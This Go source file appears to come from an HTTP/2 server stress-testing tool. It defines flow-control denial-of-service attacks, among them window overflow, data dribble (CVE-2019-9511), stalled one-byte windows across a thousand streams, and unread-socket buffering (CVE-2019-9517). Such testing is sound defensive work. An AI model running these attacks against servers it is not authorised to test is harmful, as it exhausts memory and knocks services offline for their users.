// SPDX-License-Identifier: Apache-2.0

package main

import "golang.org/x/net/http2"

// heldStreams is how many streams those attacks hold, on all connections together, that ask for answers and take nothing.
// An accepted call costs any server the memory of its handler; what these attacks are after is what comes on top of that.
const heldStreams = 1000

var windows = family{"flow control used against the server", []attack{
	{
		name: "window-overflow", about: "raises the connection's window above 2^31-1",
		more: func(h *hostile) bool {
			h.request(watchPath, false)
			h.windowUpdate(0, 1<<31-1)
			return true
		},
	},
	{
		name: "window-overflow-settings", variant: true, about: "raises a stream's window above 2^31-1 by SETTINGS",
		open: func(h *hostile) { h.windowUpdate(h.request(watchPath, false), 1<<31-1-65535) },
		more: func(h *hostile) bool {
			h.setting(http2.SettingInitialWindowSize, 1<<31-1)
			return true
		},
	},
	{
		name: "data-dribble", cve: "CVE-2019-9511", about: "asks for endless answers and takes them a byte at a time",
		settings: []setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
		open: func(h *hostile) {
			for range h.portion(heldStreams) {
				h.watch()
			}
		},
		more: flood(func(h *hostile) {
			h.turn++
			h.windowUpdate(uint32(h.turn%h.portion(heldStreams))*2+1, 1)
		}),
	},
	{
		name: "tiny-window", least: 3, about: "asks for endless answers with a window of one byte, which stays used up",
		settings: []setting{{ID: http2.SettingInitialWindowSize, Val: 1}},
		more:     watchAndHold(1),
	},
	{
		name: "many-stalled", least: 2 * heldStreams, about: "asks for endless answers with windows of one byte, which stay used up, in a thousand streams in all",
		settings: []setting{{ID: http2.SettingInitialWindowSize, Val: 1}},
		more:     watchAndHold(heldStreams),
	},
	{
		name: "connection-stalled", variant: true, least: 2 * heldStreams, about: "asks for endless answers in a thousand streams in all and never gives the connection a window",
		settings: []setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}},
		more:     watchAndHold(heldStreams),
	},
	{
		name: "internal-buffering", cve: "CVE-2019-9517", about: "opens all windows, asks for endless answers and does not read the socket", deaf: true,
		settings: []setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}},
		open:     func(h *hostile) { h.windowUpdate(0, 1<<31-1-65535) },
		more:     watchAndHold(100),
	},
}}

// watch asks for the endless stream.
func (h *hostile) watch() { h.data(h.request(watchPath, false), true, emptyMessage) }

// watchAndHold asks for endless answers in so many streams on all connections together, one on each at least.
func watchAndHold(streams int) func(h *hostile) bool {
	return func(h *hostile) bool {
		for range h.portion(streams) {
			h.watch()
		}
		return false
	}
}
